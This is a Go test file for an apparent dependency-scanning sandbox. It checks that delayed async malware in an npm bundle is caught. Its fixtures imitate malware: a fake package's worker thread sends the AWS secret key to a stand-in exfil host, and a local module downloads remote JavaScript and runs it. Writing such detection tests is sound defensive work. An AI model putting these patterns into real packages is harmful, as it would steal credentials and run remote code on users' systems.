package scan_test

import (
	"testing"

	"github.com/depbox/depbox/internal/verdict"
	"github.com/depbox/depbox/profile"
)

// TestSlowAsyncWorkIsSeen runs, in the real sandbox, async work that ends
// well after the linger: a worker thread that computes for 800 ms before it
// sends a canary, and the function's own code that waits for a 2.5 s child
// before it fetches code and evaluates it. The harnesses let I/O in flight
// (requests, children, workers) finish, bounded, so both are detected
// however loaded the machine is; before, the process ended at the linger
// and both were missed. The fixtures imitate malware; they run only in the
// sandbox and reach only *.invalid names.
func TestSlowAsyncWorkIsSeen(t *testing.T) {
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json": `{"name":"fn","version":"1.0.0","dependencies":{"slowworker":"1.0.0"}}`,
		"index.js":     "require('./lib/late');\nrequire('slowworker');\nexports.handler = async () => ({ statusCode: 200 });\n",
		"lib/late.js": `require('child_process').execFile('sleep', ['2.5'], () => {
  require('http').get('http://cdn.late.invalid/m.js', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => { try { new Function(b)(); } catch {} }); }).on('error', () => {});
});`,
		"node_modules/slowworker/package.json": `{"name":"slowworker","version":"1.0.0"}`,
		"node_modules/slowworker/index.js": "const { Worker } = require('worker_threads');\n" +
			"new Worker(`const end = Date.now() + 800; while (Date.now() < end);\n" +
			"const r = require('http').request({ host: 'slow.exfil.invalid', method: 'POST', path: '/k' }, (res) => res.resume());\n" +
			"r.on('error', () => {}); r.end(process.env.AWS_SECRET_ACCESS_KEY);`, { eval: true });\n" +
			"module.exports = 1;\n",
	})
	p := run(t, invokeOptions(t, dir))
	for _, want := range []struct {
		path, rule, phase string
		sev               verdict.Severity
	}{
		{"node_modules/slowworker", verdict.RuleCanaryExfiltration, profile.PhaseImport, verdict.Critical},
		{".", verdict.RuleRemoteCode, profile.PhaseInvoke, verdict.High},
	} {
		if sev := findingsOn(p, want.path)[want.rule][want.phase]; sev != want.sev {
			t.Errorf("%s: %s in the %s phase has severity %v, want %v (findings %v)", want.path, want.rule, want.phase, sev, want.sev, findingsOn(p, want.path))
		}
	}
}
